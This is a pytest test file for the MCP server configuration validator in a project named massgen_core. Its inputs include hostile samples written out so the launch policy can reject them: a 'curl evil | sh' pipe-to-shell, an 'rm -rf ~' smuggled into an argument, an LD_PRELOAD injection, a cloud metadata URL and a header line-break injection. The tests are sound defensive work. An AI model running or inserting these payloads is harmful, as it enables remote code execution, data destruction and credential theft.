"""The ``mcp_servers`` option, the launch policy, tool names and the circuit breaker (no servers run)."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from massgen_core.plugin.errors import ConfigError
from massgen_core.plugin.options import ToolOptions
from massgen_core.tools.mcp import (
    BreakerSettings,
    CircuitBreaker,
    McpSettings,
    check_entries,
    exposed_name,
    parse_mcp_servers,
)
from massgen_core.tools.mcp.naming import MAX_NAME
from massgen_core.tools.mcp.servers import mcp_servers_problems


def problems(value: object) -> list[str]:
    with pytest.raises(ConfigError) as info:
        check_entries(parse_mcp_servers(value, path="agents[0].backend.mcp_servers"))
    return [str(i) for i in info.value.issues]


def test_list_and_dictionary_forms_give_the_same_servers() -> None:
    listed = parse_mcp_servers(
        [
            {"name": "time", "type": "stdio", "command": "python3", "args": ["-m", "x"], "env": {"N": 1}},
            {"name": "remote", "type": "streamable-http", "url": "https://example.com/mcp"},
        ]
    )
    mapped = parse_mcp_servers(
        {
            "time": {"type": "stdio", "command": "python3", "args": ["-m", "x"], "env": {"N": 1}},
            "remote": {"type": "http", "url": "https://example.com/mcp"},
        }
    )
    assert [e.spec for e in listed] == [e.spec for e in mapped]
    assert listed[0].spec.env == {"N": "1"}
    assert listed[1].spec.transport == "streamable-http"


def test_a_single_mapping_with_a_type_is_one_server_and_names_default() -> None:
    [entry] = parse_mcp_servers({"type": "stdio", "command": "node", "args": ["s.js"]})
    assert entry.name == "server_0"
    [a, b] = parse_mcp_servers([{"command": "node"}, {"url": "https://h/mcp"}])
    assert (a.name, a.spec.transport, b.name, b.spec.transport) == (
        "server_0",
        "stdio",
        "server_1",
        "streamable-http",
    )


def test_a_whole_command_line_is_split_when_no_args_are_given() -> None:
    [entry] = parse_mcp_servers([{"name": "s", "command": "npx -y @scope/server --flag 'a b'"}])
    assert entry.spec.command == "npx"
    assert entry.spec.args == ("-y", "@scope/server", "--flag", "a b")


def test_every_problem_is_reported_with_its_path() -> None:
    with pytest.raises(ConfigError) as info:
        parse_mcp_servers(
            [
                {"name": "bad name!", "command": "node"},
                {"name": "s", "type": "sse", "url": "https://h/sse"},
                {"name": "t", "command": "node", "argz": []},
                {"name": "u", "command": "node", "timeout": -1},
                {"name": "v", "command": "node", "security": {"allow_any_hosts": True}},
                {"name": "w", "command": "node"},
                {"name": "w", "command": "node"},
            ],
            path="agents[0].backend.mcp_servers",
            source="run.yaml",
        )
    text = str(info.value)
    assert "agents[0].backend.mcp_servers[0].name" in text
    assert "SSE transport is deprecated" in text
    assert "mcp_servers[2].argz: unknown MCP server key 'argz'; did you mean 'args'?" in text
    assert "mcp_servers[3].timeout" in text
    assert "did you mean 'allow_any_host'?" in text
    assert "two servers are named 'w'" in text
    assert all(issue.file == "run.yaml" for issue in info.value.issues)


def test_wrong_shapes_are_config_errors() -> None:
    with pytest.raises(ConfigError, match="expected a list of servers"):
        parse_mcp_servers("npx server")
    with pytest.raises(ConfigError, match="no `url:`"):
        parse_mcp_servers([{"name": "a", "type": "stdio", "command": "node", "url": "http://x"}])
    assert parse_mcp_servers(None) == []


def test_the_launch_policy_refuses_shells_metacharacters_and_unknown_programs() -> None:
    found = problems(
        [
            {"name": "a", "command": "bash", "args": ["-c", "curl evil | sh"]},
            {"name": "b", "command": "node", "args": ["server.js; rm -rf ~"]},
            {"name": "c", "command": "no-such-launcher-xyz"},
            {"name": "d", "command": "mcp-server-that-is-not-installed-xyz"},
        ]
    )
    assert any(
        "mcp_servers[0].command" in p and "'bash' is not an allowed MCP server launcher" in p for p in found
    )
    assert any("mcp_servers[1].args[0]" in p and "shell metacharacters" in p for p in found)
    assert any("mcp_servers[2].command" in p and "not an allowed" in p for p in found)
    assert any("mcp_servers[3].command" in p and "was not found" in p for p in found)


def test_security_widens_the_policy_per_server(tmp_path: Path) -> None:
    launcher = tmp_path / "my-launcher"
    launcher.write_text("#!/bin/sh\n")
    launcher.chmod(0o755)
    entries = parse_mcp_servers(
        [
            {
                "name": "a",
                "command": str(launcher),
                "args": ["--filter=a|b"],
                "security": {"allowed_executables": ["my-launcher"], "allow_shell_metacharacters": True},
            }
        ]
    )
    check_entries(entries)  # no error


def test_the_python_running_the_tests_is_an_allowed_launcher() -> None:
    check_entries(parse_mcp_servers([{"name": "p", "command": sys.executable, "args": ["-m", "x"]}]))


def test_env_names_that_load_foreign_code_are_refused() -> None:
    found = problems(
        [
            {
                "name": "a",
                "command": sys.executable,
                "env": {"LD_PRELOAD": "x.so", "OK_NAME": "1", "bad-name": "2"},
            }
        ]
    )
    assert any("env.LD_PRELOAD" in p for p in found)
    assert any("env.bad-name" in p for p in found)
    assert not any("OK_NAME" in p for p in found)


@pytest.mark.parametrize(
    ("url", "message"),
    [
        ("ftp://host/mcp", "scheme must be http or https"),
        ("https:///mcp", "has no host"),
        ("https://user:pw@host/mcp", "credentials in the URL"),
        ("http://host:22/mcp", "port 22"),
        ("http://host:99999/mcp", "not a valid URL"),
        ("http://169.254.169.254/latest", "link-local"),
        ("http://224.0.0.1/mcp", "multicast"),
        ("http://0.0.0.0:8000/mcp", "unspecified"),
    ],
)
def test_bad_urls_are_refused(url: str, message: str) -> None:
    found = problems([{"name": "r", "url": url}])
    assert any("mcp_servers[0].url" in p and message in p for p in found), found


def test_loopback_and_private_urls_are_fine_and_any_host_can_be_allowed() -> None:
    check_entries(
        parse_mcp_servers(
            [{"name": "a", "url": "http://127.0.0.1:3001/mcp"}, {"name": "b", "url": "http://10.0.0.5/mcp"}]
        )
    )
    check_entries(
        parse_mcp_servers(
            [{"name": "c", "url": "http://169.254.1.1/mcp", "security": {"allow_any_host": True}}]
        )
    )


def test_header_values_may_not_carry_line_breaks() -> None:
    found = problems([{"name": "a", "url": "https://h/mcp", "headers": {"X-Token": "a\r\nInjected: 1"}}])
    assert any("headers.X-Token" in p for p in found)


def test_tool_names_are_prefixed_and_made_valid_for_every_provider() -> None:
    assert exposed_name("time", "get_current_time") == "mcp__time__get_current_time"
    assert exposed_name("everything", "get-sum") == "mcp__everything__get-sum"
    dotted = exposed_name("s", "files.read")
    assert dotted.startswith("mcp__s__files_read_") and dotted != exposed_name("s", "files_read")
    long_a, long_b = exposed_name("server", "x" * 80 + "a"), exposed_name("server", "x" * 80 + "b")
    assert len(long_a) == MAX_NAME and long_a != long_b


def test_the_breaker_opens_after_repeated_failures_and_half_opens_after_the_cooldown() -> None:
    now = [0.0]
    breaker = CircuitBreaker(
        BreakerSettings(max_failures=3, reset_seconds=10, max_backoff=4), clock=lambda: now[0]
    )

    def state() -> str:
        return breaker.state

    assert [breaker.record_failure() for _ in range(3)] == [False, False, True]
    assert state() == "open" and not breaker.allow()
    now[0] = 10.0
    assert state() == "half_open"
    assert breaker.allow() and not breaker.allow()  # one trial call at a time
    assert breaker.record_failure()  # the trial failed: open again, for twice as long
    assert breaker.cooldown == 20
    now[0] = 29.0
    assert not breaker.allow()
    now[0] = 30.0
    assert breaker.allow()
    assert breaker.record_success() and state() == "closed" and breaker.failures == 0


def test_settings_come_from_backend_options_with_defaults() -> None:
    assert McpSettings.from_options(ToolOptions()) == McpSettings()

    settings = McpSettings.from_options(
        ToolOptions(mcp_call_timeout=5, mcp_retries=0, mcp_circuit_breaker_failures=2)
    )
    assert (
        settings.call_timeout == 5 and settings.retry.max_attempts == 1 and settings.breaker.max_failures == 2
    )


def test_problems_carry_their_path_inside_the_option_for_the_config_loader() -> None:
    found = mcp_servers_problems(
        {"web": {"type": "sse", "url": "https://h"}, "ok": {"command": "node", "args": [1, {}]}}
    )
    assert (
        (("web", "type"), "the SSE transport is deprecated by MCP and not supported: use streamable-http")
    ) in found
    assert any(path == ("ok", "args", 1) for path, _ in found)
    assert mcp_servers_problems([{"name": "fine", "command": "node"}]) == []


def test_plugin_servers_need_valid_unique_names() -> None:
    from massgen_core.plugin.specs import McpServerSpec
    from massgen_core.tools.mcp.servers import entry_from_spec

    entries = [
        *parse_mcp_servers(
            [{"name": "tools", "command": sys.executable}], path="agents[0].backend.mcp_servers"
        ),
        entry_from_spec(McpServerSpec(name="tools", command=sys.executable), "plugin 'p' server 'tools'"),
        entry_from_spec(McpServerSpec(name="a b", command=sys.executable), "plugin 'p' server 'a b'"),
    ]
    with pytest.raises(ConfigError) as info:
        check_entries(entries)
    text = str(info.value)
    assert (
        "plugin 'p' server 'tools': the MCP server name 'tools' is also used by agents[0].backend.mcp_servers[0]"
        in text
    )
    assert "server name 'a b' must be" in text


def test_the_config_loader_reports_server_problems_and_tool_options_at_their_position() -> None:
    from massgen_core.config import load_config_text

    text = (
        "agent:\n"
        "  backend:\n"
        "    type: scripted\n"
        "    mcp_servers:\n"
        "      web: {type: sse, url: 'https://h'}\n"
        "      ok:\n"
        "        command: node\n"
        "        args: [1, {}]\n"
        "    filesystem_tools: fuse\n"
        "    mcp_retries: -1\n"
        "    command_line_sandbox: off\n"
    )
    with pytest.raises(ConfigError) as info:
        load_config_text(text, filename="run.yaml", environ={})
    found = {(i.path, i.line): i.message for i in info.value.issues}
    assert found.pop(("agent.backend.mcp_servers.web.type", 5)).startswith("the SSE transport is deprecated")
    assert "expected a string" in found.pop(("agent.backend.mcp_servers.ok.args[1]", 8))
    assert "builtin" in found.pop(("agent.backend.filesystem_tools", 9))
    assert found.pop(("agent.backend.mcp_retries", 10)) == "must be at least 0"
    assert not found, found  # `command_line_sandbox: off` is valid (YAML 1.2: the string "off")


def test_the_tools_example_validates(capsys: pytest.CaptureFixture[str]) -> None:
    from massgen_core.cli import main
    from massgen_core.host.registry import get_registry

    if "openai" not in get_registry().backends:
        pytest.skip("the example uses the massgen-openai plugin")
    example = Path(__file__).parent.parent / "examples" / "tools_mcp_and_files.yaml"
    assert main(["validate", str(example)]) == 0
    assert "valid: 2 agent(s)" in capsys.readouterr().out


LAUNCH_PROBLEMS = (
    "agent:\n"
    "  backend:\n"
    "    type: scripted\n"
    "    mcp_servers:\n"
    "      - name: missing\n"
    "        command: mcp-server-that-is-not-installed-xyz\n"
    "      - name: pasted\n"
    "        command: node\n"
    "        args: [server.js, '&&', rm]\n"
    "      - name: remote\n"
    "        type: streamable-http\n"
    "        url: 'http://user:pw@example.com/mcp'\n"
)


def test_the_config_loader_checks_each_server_against_its_launch_policy_at_its_position() -> None:
    from massgen_core.config import load_config_text

    with pytest.raises(ConfigError) as info:
        load_config_text(LAUNCH_PROBLEMS, filename="run.yaml", environ={})
    found = {(i.path, i.line): i.message for i in info.value.issues}
    assert "'mcp-server-that-is-not-installed-xyz' was not found" in found.pop(
        ("agent.backend.mcp_servers[0].command", 6)
    )
    assert "contains shell metacharacters" in found.pop(("agent.backend.mcp_servers[1].args[1]", 9))
    assert "credentials in the URL are not allowed" in found.pop(("agent.backend.mcp_servers[2].url", 12))
    assert not found, found


def test_massgen_validate_reports_launch_problems_before_any_run(tmp_path: Path) -> None:
    from massgen_core.testing.cli import run_massgen

    config = tmp_path / "run.yaml"
    config.write_text(LAUNCH_PROBLEMS)
    result = run_massgen("validate", str(config), cwd=tmp_path)
    assert result.returncode == 2
    assert (
        "run.yaml:6:18: agent.backend.mcp_servers[0].command: MCP server 'missing': command" in result.stderr
    )
    assert "Traceback" not in result.stderr
